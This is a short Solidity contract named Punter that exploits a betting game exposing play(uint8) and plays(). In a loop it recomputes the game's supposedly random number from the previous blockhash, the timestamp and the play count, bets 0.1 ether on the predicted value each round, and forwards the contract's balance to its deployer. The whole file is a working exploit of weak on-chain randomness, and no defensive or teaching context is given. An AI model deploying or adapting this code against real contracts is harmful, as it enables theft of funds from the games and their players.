pragma solidity 0.4.24;

interface ILucky {
    function play(uint8 guess) external payable;
    function plays() external view returns (uint256);
}

contract Punter {
    address private boss;

    constructor() public {
        boss = msg.sender;
    }

    function run(ILucky game, uint256 rounds) public payable {
        for (uint256 i = 0; i < rounds; i++) {
            bytes32 seed = keccak256(abi.encodePacked(blockhash(block.number - 1), now, game.plays()));
            game.play.value(0.1 ether)(uint8(uint256(seed) % 10));
        }
        boss.transfer(address(this).balance);
    }

    function () public payable {}
}
